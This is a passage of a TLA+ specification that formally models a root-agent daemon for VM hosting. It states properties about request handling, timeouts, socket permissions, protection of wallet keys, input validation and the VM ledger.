     "ip6-route-del", "bridge-port-isolate", "iptables-open",
     "iptables-close", "virt-customize", "generate-wallet",
     "addressbook-save", "broker-renew"}

\* a request was read from the connection handled last
RequestRead == conn # <<>> /\ ~ProtocolError /\ frame.text = "dict"

\* C19: the daemon recognizes exactly the 17 action names of the catalog: a
\* request with one of them goes to its handler, and a request with any other
\* name is answered {ok: false, error: 'Unknown action: <name>'} and no
\* handler runs.
C19_CatalogRecognized ==
    RequestRead =>
        /\ request.action \in Catalog
              => response # Err("Unknown action: " \o request.action)
        /\ request.action \notin Catalog
              => /\ response = Err("Unknown action: " \o request.action)
                 /\ runs = <<>>

\* C20: when the subprocess of a handler runs longer than the handler's
\* timeout, the child process is terminated and the client of the connection
\* receives {ok: false, error: "timeout"}.
\* (subprocess.run kills the child when the timeout expires: child = "killed"
\* is the state after a run that outlived its timeout.)
C20_TimeoutReply ==
    child = "killed" =>
        /\ Count(conn, "write") = 1
        /\ response = Err("timeout")

(***************************************************************************)
(* main() of the root agent: the steps from the start of the process to    *)
(* serve_forever.  daemon.pc names the step that main() takes next.        *)
(***************************************************************************)
Started(step) == [daemon EXCEPT !.pc = step]

\* if os.getuid() != 0: sys.exit(1)
main_root_check ==
    /\ daemon.pc = "start"
    /\ daemon' = IF sys.uid # 0 THEN [pc |-> "exited", exit |-> 1]
                 ELSE Started("unlink")
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, sock, sys, connVars, etcVars,
                   loopVars>>

\* run_dir.mkdir(...); if socket_path.exists(): socket_path.unlink()
main_unlink ==
    /\ daemon.pc = "unlink"
    /\ daemon' = Started("bind")
    /\ sock' = [sock EXCEPT !.exists = FALSE]
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, sys, connVars, etcVars, loopVars>>

\* server = await asyncio.start_unix_server(...): bind creates the socket
\* file, owned by root:root with the mode that the umask 022 leaves
main_start_unix_server ==
    /\ daemon.pc = "bind"
    /\ daemon' = Started("chown")
    /\ sock' = [exists |-> TRUE, group |-> "root", mode |-> "0755"]
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, sys, connVars, etcVars, loopVars>>

\* gid = grp.getgrnam('blockhost').gr_gid; os.chown(SOCKET_PATH, 0, gid),
\* with a warning in place of the chown when the group is missing
main_chown ==
    /\ daemon.pc = "chown"
    /\ daemon' = Started("chmod")
    /\ sock' = IF sys.group THEN [sock EXCEPT !.group = "blockhost"] ELSE sock
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, sys, connVars, etcVars, loopVars>>

\* os.chmod(SOCKET_PATH, 0o660); async with server: await
\* server.serve_forever(), where the tasks of the connections get to run
main_chmod ==
    /\ daemon.pc = "chmod"
    /\ daemon' = Started("serving")
    /\ sock' = [sock EXCEPT !.mode = "0660"]
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, sys, connVars, etcVars, loopVars>>

\* the process is started by root or by another user, on a system with or
\* without the group blockhost, with or without a socket file left behind
InitStartup ==
    /\ InitLedger
    /\ InitFile
    /\ daemon = [pc |-> "start", exit |-> 0]
    /\ sock \in {[exists |-> FALSE, group |-> "root", mode |-> "0755"],
                 ServingSock}
    /\ sys \in {[uid |-> u, group |-> g, enospc |-> ""] :
                   u \in {0, 1000}, g \in BOOLEAN}
    /\ InitConn
    /\ InitEtc
    /\ InitLoop
    /\ InitClient

NextStartup ==
    \/ main_root_check
    \/ main_unlink
    \/ main_start_unix_server
    \/ main_chown
    \/ main_chmod
    \/ \E r \in RunResults,
          m \in QmSimpleRequests \cup Ip6RouteRequests \cup UnknownRequests :
          handle_connection(Frame(m), r)

SpecStartup == InitStartup /\ [][NextStartup]_vars

(***************************************************************************)
(* SpecEtc: the requests that write under /etc/blockhost, on a system      *)
(* where the group blockhost may go away and a write may hit a full disk   *)
(***************************************************************************)
\* what cast wallet new may print: the address and the key, the key alone,
\* an address line without its colon, none of the two
WalletResults ==
    RunResults
    \cup {[raised |-> "", rc |-> 0, out |-> o, err |-> ""] :
            o \in {"Private key: 0xB2", "Address 0xA1\nPrivate key: 0xB2"}}

\* the administrator removes or adds the group, the disk fills up or empties
SysChange ==
    /\ \E g \in BOOLEAN, e \in {"", "key", "addressbook"} :
          /\ sys' = [sys EXCEPT !.group = g, !.enospc = e]
          /\ sys' # sys
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, daemon, sock, connVars, etcVars,
                   loopVars>>

NextEtc ==
    \/ SysChange
    \/ \E r \in WalletResults, m \in GenerateWalletRequests :
          handle_connection(Frame(m), r)
    \/ \E r \in RunResults, m \in AddressbookSaveRequests :
          handle_connection(Frame(m), r)
    \/ \E r \in RunResults, m \in QmSimpleRequests :
          handle_connection(Frame(m), r)

SpecEtc == Init /\ [][NextEtc]_vars

(***************************************************************************)
(* Properties of the daemon: handler failures, startup, files of           *)
(* /etc/blockhost                                                          *)
(***************************************************************************)
\* C21: an exception that escapes a handler (missing parameter, validator
\* error, OS error, subprocess timeout) becomes the reply {ok: false,
\* error: <message>} on that connection and does not end the daemon: it goes
\* on serving and answers the connections that follow.
C21_HandlerExceptionReply ==
    /\ raised # "" =>
          /\ response = Err(raised)
          /\ conn = <<"header", "payload", "write", "close">>
    /\ daemon = [pc |-> "serving", exit |-> 0]

\* a request was answered with ok after a generate-wallet request had
\* failed for the missing group
C21_Witness ==
    /\ raised = ""
    /\ response.ok
    /\ \E n \in keyfiles : perms[KeyfileOf(n)] = CreatedPerms


\* C23: main() checks for root first (exit code 1 before the socket is
\* touched), then removes a stale socket file, binds, sets the ownership
\* root:blockhost and the mode 0660, and only then accepts connections: no
\* connection is accepted while the socket lacks that ownership and mode.
C23_StartupOrder ==
    /\ sys.uid # 0 => daemon.pc \in {"start", "exited"}
    /\ daemon.pc = "exited" => daemon.exit = 1 /\ sys.uid # 0
    /\ daemon.pc \in {"chown", "chmod"} => sock.exists
    /\ daemon.pc = "serving" => sock = ServingSock
    /\ conn # <<>> => daemon.pc = "serving" /\ sock = ServingSock

\* C24: a key file that generate-wallet has written under /etc/blockhost has
\* the mode 0640 and the ownership root:blockhost when the handler returns,
\* on the success path and on every error path after the write (lookup of
\* the group fails, write of the address book fails).
C24_KeyFilePerms ==
    \A n \in keyfiles : perms[KeyfileOf(n)] = ServicePerms

\* the text sub occurs in the text s
Contains(s, sub) ==
    \E k \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, k, k + Len(sub) - 1) = sub

\* C25: whatever cast wallet new prints (the address line missing or
\* malformed included), the private key of a generate-wallet request appears
\* neither in the response to the client (success record or error message)
\* nor in a log line.
C25_KeyNeverDisclosed ==
    secret # "" =>
        /\ ~Contains(response.error, secret)
        /\ ~Contains(response.output, secret)
        /\ ~Contains(response.address, secret)
        /\ \A k \in 1..Len(log) : ~Contains(log[k], secret)

\* C26: addressbook-save replaces the address book atomically: after the
\* request, failed at any step or not, the file holds the complete previous
\* content or the complete new content, never an empty or truncated file; a
\* request with an invalid entry leaves the file as it was; after success
\* the file has the mode 0640.  (request' is the request whose handling ends
\* the step; a step of the system around the daemon changes no file.)
C26_AddressbookAtomic ==
    [][request'.action = "addressbook-save" =>
          LET entries == Get(request'.params, "entries", JDict(<<>>))
              valid == entries.t = "dict"
                       /\ addressbook_check(entries.l, 1) = ""
          IN /\ abfile = "whole" => abfile' = "whole"
             /\ abfile = "absent" => abfile' \in {"absent", "whole"}
             /\ addressbook' = addressbook
                \/ (valid /\ addressbook' = EntriesOf(entries.l))
             /\ ~valid => addressbook' = addressbook /\ abfile' = abfile
             /\ response'.ok =>
                   /\ addressbook' = EntriesOf(entries.l)
                   /\ perms'[AddressbookPath].mode = "0640"]_vars

(***************************************************************************)
(* SpecLoop: the event loop of asyncio.run(main()) with the tasks of two   *)
(* connections.  A task runs on the one thread of the loop from one await  *)
(* to the next; handler(params) and the subprocess.run inside _run are     *)
(* plain calls, with no await between the read of the request and the      *)
(* write of the response.  A request needs work seconds of its child       *)
(* process (0: the handler answers without a child that takes time).       *)
(***************************************************************************)
MaxClock == 4
Works == {0, 2}

\* a client connects and sends its request frame
client_send(c, w) ==
    /\ tasks[c].pc = "none"
    /\ tasks' = [tasks EXCEPT ![c] = [pc |-> "sent", work |-> w,
                                      arrived |-> clock, answered |-> 0]]
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, daemon, sock, sys, connVars, etcVars,
                   loop, clock>>

\* the loop is in its selector and resumes the task of c: read_message
\* returns, the handler is called and calls _run, which blocks in
\* subprocess.run while the child runs
task_run_handler(c) ==
    /\ loop = ""
    /\ tasks[c].pc = "sent"
    /\ tasks' = [tasks EXCEPT ![c].pc = "in_subprocess"]
    /\ loop' = c
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, daemon, sock, sys, connVars, etcVars,
                   clock>>

\* subprocess.run returns (the child has exited), the handler returns,
\* write_message sends the response and the task ends
task_write_response(c) ==
    /\ loop = c
    /\ tasks[c].pc = "in_subprocess"
    /\ tasks[c].work = 0
    /\ tasks' = [tasks EXCEPT ![c].pc = "answered", ![c].answered = clock]
    /\ loop' = ""
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, daemon, sock, sys, connVars, etcVars,
                   clock>>

\* a second passes: the child of the blocked task has a second less to run.
\* Time passes only when the loop has nothing that it could do at once.
second ==
    /\ clock < MaxClock
    /\ \A c \in Conns : ~ENABLED task_run_handler(c)
    /\ \A c \in Conns : ~ENABLED task_write_response(c)
    /\ clock' = clock + 1
    /\ tasks' = [c \in Conns |->
                    IF tasks[c].pc = "in_subprocess" /\ tasks[c].work > 0
                    THEN [tasks[c] EXCEPT !.work = @ - 1]
                    ELSE tasks[c]]
    /\ UNCHANGED <<ledgerVars, fileVars, clientVars, daemon, sock, sys, connVars, etcVars,
                   loop>>

NextLoop ==
    \/ \E c \in Conns, w \in Works : client_send(c, w)
    \/ \E c \in Conns : task_run_handler(c)
    \/ \E c \in Conns : task_write_response(c)
    \/ second

SpecLoop == Init /\ [][NextLoop]_vars

\* C22: while the handler of one connection waits for its child process, the
\* daemon goes on reading and answering other connections: a request whose
\* own handler needs no time of a child does not wait, unread, for the
\* child of another connection: it is taken up in the second in which it
\* arrived.
C22_OtherConnectionsNotDelayed ==
    \A c \in Conns :
        (/\ tasks[c].pc = "sent"
         /\ tasks[c].work = 0
         /\ \E d \in Conns \ {c} : tasks[d].pc = "in_subprocess")
            => clock = tasks[c].arrived

(***************************************************************************)
(* SpecNames: qm-create requests with names around the limits of NAME_RE   *)
(***************************************************************************)
\* the text of n times the character c
RECURSIVE Rep(_, _)
Rep(c, n) == IF n = 0 THEN "" ELSE c \o Rep(c, n - 1)

NameInputs ==
    {Rep(c, n) \o e :
        c \in {"a", "z", "0", "9", "-", "A", "_", " "},
        n \in {0, 1, 64, 65},
        e \in {"", "\n"}}

NameRequests ==
    {Msg("qm-create",
         ("vmid" :> JInt(100)) @@ ("name" :> JStr(n))
             @@ ("args" :> JList(<<>>))) : n \in NameInputs}

NextNames ==
    \E r \in RunResults, m \in NameRequests : handle_connection(Frame(m), r)

SpecNames == Init /\ [][NextNames]_vars

\* C27: the validation of the VM name of qm-create accepts exactly the texts
\* of 1 to 64 characters out of a-z, 0-9 and '-': every name of 65 characters
\* and the empty name are refused, a name of 64 allowed characters followed
\* by a newline included.
C27_VmNameAccepted ==
    request.action = "qm-create" =>
        LET name == request.params["name"].s
            wellformed == /\ Len(name) \in 1..64
                          /\ \A k \in 1..Len(name) :
                                CharAt(name, k) \in NameChars
        IN /\ wellformed => runs # <<>>
           /\ ~wellformed => /\ runs = <<>>
                             /\ response = Err("Invalid VM name: " \o name)

(***************************************************************************)
(* SpecOptions: qm-set and qm-create requests with one or two option keys  *)
(***************************************************************************)
\* the option keys of the allow-list of the protocol, and two others
ListedKeys ==
    {"scsi0", "boot", "ide2", "agent", "serial0", "vga", "net0", "memory",
     "cores", "name", "ostype", "scsihw", "sockets", "cpu", "numa",
     "machine", "bios"}

KeyInputs == ListedKeys \cup {"hookscript", "foo"}

\* one key, or the key memory followed by another key
KeyLists ==
    {<<k>> : k \in KeyInputs}
    \cup {<<"memory", k>> : k \in {"cores", "sockets", "hookscript"}}

OptionsOf(keys) == JDict([j \in 1..Len(keys) |-> JPair(keys[j], JStr("1"))])
ArgsOf(keys) ==
    JList([j \in 1..(2 * Len(keys)) |->
              IF j % 2 = 1 THEN JStr("--" \o keys[(j + 1) \div 2])
              ELSE JStr("1")])

OptionRequests ==
    {Msg("qm-set", ("vmid" :> JInt(100)) @@ ("options" :> OptionsOf(ks))) :
        ks \in KeyLists}
    \cup {Msg("qm-create", ("vmid" :> JInt(100)) @@ ("name" :> JStr("web-001"))
                               @@ ("args" :> ArgsOf(ks))) : ks \in KeyLists}

NextOptions ==
    \E r \in RunResults, m \in OptionRequests : handle_connection(Frame(m), r)

SpecOptions == Init /\ [][NextOptions]_vars

\* the option keys of the request handled last
RequestKeys ==
    IF request.action = "qm-set"
    THEN LET o == Param("options", JDict(<<>>))
         IN {o.l[j].l[1].s : j \in 1..Len(o.l)}
    ELSE LET a == Param("args", JList(<<>>))
         IN {SubSeq(a.l[j].s, 3, Len(a.l[j].s)) :
                j \in {i \in 1..Len(a.l) : i % 2 = 1}}

\* C28: qm-set accepts an option key, and qm-create an argument key (without
\* its leading --), if and only if the key is in the allow-list of 17 keys;
\* both apply the same list, and every key of the request is checked before
\* the subprocess is run.
C28_OptionKeysAllowed ==
    request.action \in {"qm-set", "qm-create"} =>
        /\ RequestKeys \subseteq ListedKeys => runs # <<>>
        /\ ~(RequestKeys \subseteq ListedKeys) =>
              /\ runs = <<>>
              /\ response.ok = FALSE

(***************************************************************************)
(* Further properties of the ledger: tombstones and the expiry queries     *)
(***************************************************************************)
\* db["vms"].get(name) of get_vm
get_vm(d, name) == IF name \in DOMAIN d.vms THEN d.vms[name] ELSE None

\* C29: no operation of the ledger removes a VM record: the set of VM names
\* never shrinks, a destroyed VM stays retrievable through get_vm with the
\* status destroyed, and register_vm with the name of a destroyed VM fails.
C29_TombstonesKept ==
    [][/\ DOMAIN db.vms \subseteq DOMAIN db'.vms
       /\ \A n \in DOMAIN db.vms :
             StatusOf(db, n) = "destroyed" =>
                /\ get_vm(db', n) # None
                /\ get_vm(db', n)["status"] = "destroyed"
                /\ \A ip \in IpInputs :
                      register_vm(n, VmidStart, ip, None, 1)
                          => ret'.error = "VM already exists"]_vars

\* ---------------------------------------------------------------------------
\* Expiry queries: get_vms_to_suspend and get_vms_to_destroy

MaxGrace == 1
Graces == 0..MaxGrace

\* get_vms_to_suspend() at time t: the loop over db["vms"].values() keeps the
\* records with vm.get("status") == "active" and now > expires_at.  The list
\* is kept as the set of its records.
get_vms_to_suspend(d, t) ==
    {d.vms[n] : n \in
        {m \in DOMAIN d.vms :
            LET vm == d.vms[m]
            IN /\ "status" \in DOMAIN vm
               /\ vm["status"] = "active"
               /\ t > fromisoformat(vm["expires_at"])}}

\* the loop with the grace period left out of the comparison
get_vms_to_destroy_no_grace(d, t, grace_days) ==
    {d.vms[n] : n \in
        {m \in DOMAIN d.vms :
            LET vm == d.vms[m]
            IN /\ "status" \in DOMAIN vm
               /\ vm["status"] = "suspended"
               /\ "suspended_at" \in DOMAIN vm
               /\ vm["suspended_at"] # None
               /\ t > fromisoformat(vm["suspended_at"])}}

\* get_vms_to_destroy(grace_days) at time t: status suspended, a suspended_at
\* that is present and not empty, and now > suspended_at + grace_days days.
get_vms_to_destroy(d, t, grace_days) ==
    {d.vms[n] : n \in
        {m \in DOMAIN d.vms :
            LET vm == d.vms[m]
            IN /\ "status" \in DOMAIN vm
               /\ vm["status"] = "suspended"
               /\ "suspended_at" \in DOMAIN vm
               /\ vm["suspended_at"] # None
               /\ t > fromisoformat(vm["suspended_at"]) + grace_days}}

NextExpiry ==
    \/ \E n \in Names : register_vm(n, VmidStart, Ipv4(PoolStart), None, 1)
    \/ \E n \in Names : mark_suspended(n)
    \/ \E n \in Names, e \in {None, <<MaxDays>>} : mark_active(n, e)
    \/ \E n \in Names : mark_destroyed(n)
    \/ Tick

SpecExpiry == Init /\ [][NextExpiry]_vars

NamesOf(vms) == {vm["vm_name"] : vm \in vms}

\* C30: at every time get_vms_to_suspend returns exactly the records of the
\* VMs with status active and now > expires_at, and get_vms_to_destroy(g)
\* exactly those with status suspended and now > suspended_at + g days; the
\* two results are disjoint, and a VM whose status is not suspended (never
\* suspended, or reactivated by mark_active) is not in get_vms_to_destroy(g).
C30_ExpiryQueries ==
    /\ get_vms_to_suspend(db, now) \subseteq {db.vms[n] : n \in VmNames}
    /\ NamesOf(get_vms_to_suspend(db, now)) =
          {n \in VmNames :
              /\ StatusOf(db, n) = "active"
              /\ now > fromisoformat(db.vms[n]["expires_at"])}
    /\ \A g \in Graces :
          /\ get_vms_to_destroy(db, now, g) \subseteq {db.vms[n] : n \in VmNames}
          /\ NamesOf(get_vms_to_destroy(db, now, g)) =
                {n \in VmNames :
                    /\ StatusOf(db, n) = "suspended"
                    /\ now > fromisoformat(db.vms[n]["suspended_at"]) + g}
          /\ get_vms_to_suspend(db, now) \cap get_vms_to_destroy(db, now, g) = {}
          /\ \A n \in VmNames :
                StatusOf(db, n) # "suspended"
                    => n \notin NamesOf(get_vms_to_destroy(db, now, g))

\* an expired active VM and a suspended VM past the longest grace period
C30_Witness ==
    /\ get_vms_to_suspend(db, now) # {}
    /\ get_vms_to_destroy(db, now, MaxGrace) # {}

(***************************************************************************)
(* blockhost.root_agent: call(), the client of the daemon                  *)
(***************************************************************************)
DEFAULT_TIMEOUT == 300

\* the timeout that the handler of an action passes to _run
handler_timeout(action) ==
    CASE action \in {"qm-importdisk", "virt-customize"} -> 600
      [] action \in {"qm-shutdown", "qm-create"} -> 300
      [] action = "generate-wallet" -> 30
      [] OTHER -> 120

\* sock.connect(SOCKET_PATH) by a member of the group blockhost: the errno
\* text of the OSError, or "" when the daemon listens and the mode of the
\* socket file lets the group write
connect ==
    IF ~sock.exists THEN "[Errno 2] No such file or directory"
    ELSE IF daemon.pc \notin {"chown", "chmod", "serving"}
    THEN "[Errno 111] Connection refused"
    ELSE IF ~(sock.group = "blockhost" /\ sock.mode = "0660")
    THEN "[Errno 13] Permission denied"
    ELSE ""

\* call(action, **params) up to sendall: the message is built, the socket
\* is created and connected; an OSError of these lines becomes
\* RootAgentConnectionError and leaves call() with the socket object not
\* closed.  Once connected, the frame of length bytes goes to the daemon.
call_send(m, length) ==
    /\ client.pc # "sent"
    /\ IF connect # ""
       THEN /\ client' = [NoCall EXCEPT
                             !.pc = "done", !.sock = "open",
                             !.raised = "RootAgentConnectionError",
                             !.text = "Cannot connect to root agent: "
                                         \o connect]
            /\ UNCHANGED connVars
       ELSE /\ client' = [NoCall EXCEPT
                             !.pc = "sent", !.sock = "open",
                             !.connected = TRUE,
                             !.frame = [Frame(m) EXCEPT !.length = length]]
            /\ frame' = NoFrame
            /\ conn' = <<>>
            /\ request' = NoFrame.msg
            /\ response' = NoResponse
            /\ runs' = <<>>
            /\ child' = "none"
            /\ raised' = ""
            /\ secret' = ""
            /\ log' = <<>>
    /\ UNCHANGED <<ledgerVars, fileVars, daemon, sock, sys, etcVars, loopVars>>

\* the daemon serves the connection of the client
serve_call(r) ==
    /\ client.pc = "sent"
    /\ conn = <<>>
    /\ handle_connection(client.frame, r)

\* the seconds that the daemon took for the request: a child that was
\* killed ran for the timeout of its handler, a child that ended ran for
\* less, and a request without a child is answered at once
Took(secs) ==
    IF runs = <<>> THEN secs = 0
    ELSE IF child = "killed" THEN secs = handler_timeout(request.action)
    ELSE secs > 0 /\ secs < handler_timeout(request.action)

Durations ==
    {0, 1, 30, 120, DEFAULT_TIMEOUT - 1, DEFAULT_TIMEOUT, DEFAULT_TIMEOUT + 1,
     600}

\* the library errors of a send to a peer that closed with the payload unread
SendErrors == {"BrokenPipeError", "ConnectionResetError"}

Done(c, sent, recvd, class, text, result) ==
    [c EXCEPT !.pc = "done", !.sock = "closed", !.sent = sent,
              !.recvd = recvd, !.raised = class, !.text = text,
              !.result = result]

\* call() from sendall to the end, secs seconds after the request arrived
\* at the daemon: sendall fails when the daemon closed the connection with
\* the payload unread; recv raises socket.timeout when the reply takes
\* longer than timeout; _recv_exact raises RootAgentConnectionError when recv
\* returns no bytes; the reply is returned when its ok is true and raised as
\* RootAgentError otherwise; finally: sock.close()
call_recv(secs, timeout) ==
    /\ client.pc = "sent"
    /\ conn # <<>>
    /\ Took(secs)
    /\ \E e \in SendErrors :
          client' =
             IF ~InList("payload", conn)
             THEN Done(client, 0, 0, e, "", NoResponse)
             ELSE IF secs > timeout
             THEN Done(client, 1, 0, "TimeoutError", "timed out", NoResponse)
             ELSE IF ~InList("write", conn)
             THEN Done(client, 1, 0, "RootAgentConnectionError",
                       "Connection closed by root agent", NoResponse)
             ELSE IF ~response.ok
             THEN Done(client, 1, 1, "RootAgentError", response.error,
                       NoResponse)
             ELSE Done(client, 1, 1, "", "", response)
    /\ UNCHANGED <<ledgerVars, fileVars, daemon, sock, sys, connVars, etcVars,
                   loopVars>>

ClientRequests ==
    QmSimpleRequests \cup QmImportdiskRequests \cup UnknownRequests
ClientLengths == {64, MAX_MESSAGE + 1}

NextClient ==
    \/ main_root_check
    \/ main_unlink
    \/ main_start_unix_server
    \/ main_chown
    \/ main_chmod
    \/ \E m \in ClientRequests, n \in ClientLengths : call_send(m, n)
    \/ \E r \in RunResults : serve_call(r)
    \/ \E secs \in Durations : call_recv(secs, DEFAULT_TIMEOUT)

SpecClient == InitStartup /\ [][NextClient]_vars

\* C31: a call() that was connected and did not time out has sent one request
\* frame and read one response frame; it returns the response only when ok
\* is true, raises RootAgentError with the error text of the daemon when ok is
\* false, raises RootAgentConnectionError when the connect failed or the
\* daemon closed the connection before a whole reply had arrived, and has
\* closed its socket whenever it ends.
C31_ClientCall ==
    client.pc = "done" =>
        /\ client.sock = "closed"
        /\ client.connected => client.sent = 1
        /\ client.raised \in {"", "RootAgentError"} => client.recvd = 1
        /\ client.raised = "" => client.result = response /\ response.ok
        /\ client.recvd = 1 /\ ~response.ok
              => /\ client.raised = "RootAgentError"
                 /\ client.text = response.error
        /\ ~client.connected => client.raised = "RootAgentConnectionError"
        /\ /\ client.connected
           /\ client.recvd = 0
           /\ client.raised # "TimeoutError"
           => client.raised = "RootAgentConnectionError"

\* C39: for every request that the daemon answers, DEFAULT_TIMEOUT is at
\* least the timeout that its handler passes to _run, and the call() made
\* with the default timeout has not given up before the reply.
C39_DefaultTimeoutSuffices ==
    client.pc = "done" /\ InList("write", conn) =>
        /\ handler_timeout(request.action) <= DEFAULT_TIMEOUT
        /\ client.raised # "TimeoutError"

(***************************************************************************)
(* SpecOpen: processes that construct a VMDatabase on a directory without  *)
(* a data file and then run transactions                                   *)
(***************************************************************************)
\* VMDatabase.__init__ from "if not self.db_file.exists()": a process that
\* finds no data file goes on to self._write_db_unlocked(initial_db), which
\* takes no lock; a process that finds one has its ledger object
Open(p) ==
    /\ ~crashed /\ pc[p] = "new"
    /\ IF dataInode # 0
       THEN /\ SetPc(p, "idle")
            /\ UNCHANGED local
       ELSE /\ SetPc(p, "mutated")
            /\ local' = [local EXCEPT ![p] = [NoLocal EXCEPT !.op = "__init__"]]
    /\ UNCHANGED <<lock, inodes, dataInode, disk, dirDisk, committed, returns,
                   calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* no process has a ledger object and the directory holds no data file
InitOpen ==
    /\ InitLedger
    /\ InitAgent
    /\ pc = [p \in Procs |-> "new"]
    /\ local = [p \in Procs |-> NoLocal]
    /\ lock = Free
    /\ inodes = <<>>
    /\ dataInode = 0
    /\ disk = <<>>
    /\ dirDisk = 0
    /\ committed = {}
    /\ returns = <<>>
    /\ calls = [p \in Procs |-> 0]
    /\ crashed = FALSE

NextOpen ==
    \E p \in Procs :
        \/ Open(p)
        \/ TxnLock(p, "allocate_vmid", None)
        \/ TxnRead(p) \/ TxnMutate(p) \/ WriteMkstemp(p) \/ WriteDump(p)
        \/ WriteClose(p) \/ WriteRename(p) \/ TxnReturn(p) \/ TxnRaise(p)

SpecOpen == InitOpen /\ [][NextOpen]_vars

\* C32: while processes open the ledger and run transactions, no step
\* discards a committed mutation: the next_vmid of the data file never goes
\* back (the seed is never renamed over a data file that holds allocations).
C32_OpenKeepsCommitted ==
    [][dataInode # 0 =>
          inodes'[dataInode'].doc.next_vmid
              >= inodes[dataInode].doc.next_vmid]_vars

(***************************************************************************)
(* SpecProvision: callers that register every VM with a vmid from their    *)
(* own allocate_vmid and an address from their own allocate_ip             *)
(***************************************************************************)
\* vmid = allocate_vmid(); ip = allocate_ip(); register_vm(name, vmid, ip):
\* three transactions of one caller, for a name that is free, a range that
\* is not exhausted and a pool that has an address left
register_allocated(name) ==
    LET a == allocate_vmid_mutator(db)
        b == allocate_ip_mutator(a.db)
    IN /\ a.error = ""
       /\ b.result # None
       /\ AtomicUpdate("register_vm", <<name, a.result[1], b.result, None>>,
              register_vm_mutator(b.db, fields, name, a.result[1], b.result,
                                  None, 1, now))
       /\ ret'.error = ""

NextProvision ==
    \/ \E n \in Names : register_allocated(n)
    \/ \E n \in Names : mark_suspended(n)
    \/ \E n \in Names, e \in {None, <<MaxDays>>} : mark_active(n, e)
    \/ \E n \in Names : mark_destroyed(n)
    \/ \E ip \in IpInputs : release_ip(ip)
    \/ Tick

SpecProvision == Init /\ [][NextProvision]_vars

\* C33: when every VM is registered with a freshly allocated vmid and
\* address, no two VMs with status active or suspended have the same vmid or
\* the same ip_address, whatever status operations and release_ip calls
\* come in between.
C33_LiveVmsDistinct ==
    \A n \in VmNames, m \in VmNames :
        (n # m /\ Live(db, n) /\ Live(db, m)) =>
            /\ db.vms[n]["vmid"] # db.vms[m]["vmid"]
            /\ IpOf(db, n) # IpOf(db, m)

(***************************************************************************)
(* SpecStub: one caller that issues every operation to a VMDatabase and to *)
(* a MockVMDatabase started from the same configuration                    *)
(***************************************************************************)
\* the mutator that a method of VMDatabaseBase or VMDatabase hands to
\* _atomic_update
MethodMutator(op, args, d) ==
    CASE op = "register_vm" ->
            register_vm_mutator(d, fields, args[1], args[2], args[3], None, 1,
                                now)
      [] op = "mark_suspended" -> mark_suspended_mutator(d, args[1], now)
      [] op = "mark_active" -> mark_active_mutator(d, args[1], None)
      [] op = "mark_destroyed" -> mark_destroyed_mutator(d, args[1], now)
      [] op = "extend_expiry" -> extend_expiry_mutator(d, args[1], args[2])
      [] op = "allocate_vmid" -> allocate_vmid_mutator(d)
      [] op = "allocate_ip" -> allocate_ip_mutator(d)
      [] op = "allocate_ipv6" -> allocate_ipv6_mutator(d)
      [] op = "release_ip" -> release_ip_mutator(d, args[1])
      [] op = "release_ipv6" -> release_ipv6_mutator(d, args[1])

\* the methods that MockVMDatabase has: those of VMDatabaseBase
BaseMethods ==
    {"register_vm", "mark_suspended", "mark_active", "mark_destroyed",
     "extend_expiry", "allocate_vmid", "allocate_ip", "allocate_ipv6"}

\* a call of a method on the MockVMDatabase: the attribute lookup, then the
\* passthrough _atomic_update (read, mutator, write)
MockVMDatabase(op, args, d) ==
    IF op \notin BaseMethods
    THEN Raise(d, "'MockVMDatabase' object has no attribute '" \o op \o "'")
    ELSE MethodMutator(op, args, d)

StubCalls ==
    {<<"register_vm", <<n, VmidStart, Ipv4(PoolStart)>>>> : n \in Names}
    \cup {<<op, <<n>>>> :
            op \in {"mark_suspended", "mark_destroyed"}, n \in Names}
    \cup {<<op, <<>>>> : op \in {"allocate_vmid", "allocate_ip"}}
    \cup {<<"release_ip", <<Ipv4(PoolStart)>>>>,
          <<"release_ipv6", <<Ipv6(Pool6Start)>>>>}

\* the caller issues the operation to both ledgers
on_both(op, args) ==
    LET out == MethodMutator(op, args, db)
        mock == MockVMDatabase(op, args, stub.db)
    IN /\ db' = IF out.error = "" THEN out.db ELSE db
       /\ ret' = [op |-> op, args |-> args, result |-> out.result,
                  error |-> out.error]
       /\ issued' = IssuedAfter(op, out)
       /\ stub' = [db |-> IF mock.error = "" THEN mock.db ELSE stub.db,
                   result |-> mock.result, error |-> mock.error]
       /\ UNCHANGED <<now, fields>>
       /\ UNCHANGED <<fileVars, agentVars>>

NextStub == \E c \in StubCalls : on_both(c[1], c[2])

SpecStub == Init /\ [][NextStub]_vars

\* C34: after any sequence of operations issued to both ledgers, the stub
\* and the file-backed ledger accepted the same operations, returned the
\* same results and hold the same content.
C34_StubEquivalent ==
    /\ stub.error = ret.error
    /\ stub.result = ret.result
    /\ stub.db = db

(***************************************************************************)
(* The action modules of root-agent-actions: _common.py, networking.py     *)
(* and system.py, for the action names that the daemon also has built in   *)
(***************************************************************************)
\* _common.ALLOWED_ROUTE_DEVS
_common_ALLOWED_ROUTE_DEVS == {"vmbr0", "virbr0", "br0", "br-ext", "docker0"}

\* ^tap\d+i\d+$
TAP_DEV_RE(s) ==
    LET b == BeforeDollar(s)
    IN /\ startswith(b, "tap")
       /\ \E k \in 5..(Len(b) - 1) :
             /\ CharAt(b, k) = "i"
             /\ \A j \in 4..(k - 1) : CharAt(b, j) \in DigitChars
             /\ \A j \in (k + 1)..Len(b) : CharAt(b, j) \in DigitChars

\* _common.validate_dev
validate_dev(dev) ==
    IF ~IsStr(dev) THEN "expected string or bytes-like object"
    ELSE IF dev.s \notin _common_ALLOWED_ROUTE_DEVS /\ ~TAP_DEV_RE(dev.s)
    THEN "Device not allowed: " \o dev.s
    ELSE ""

\* the class [02-9ac-hj-np-z] of the data part of a bech32 address
Bech32Chars == (DigitChars \cup LowerChars) \ {"1", "b", "i", "o"}

\* ^0x[0-9a-fA-F]{40,128}$
_HEX_ADDRESS_RE(s) ==
    /\ startswith(s, "0x")
    /\ MatchClass(SubSeq(s, 3, Len(s)), HexChars, 40, 128)

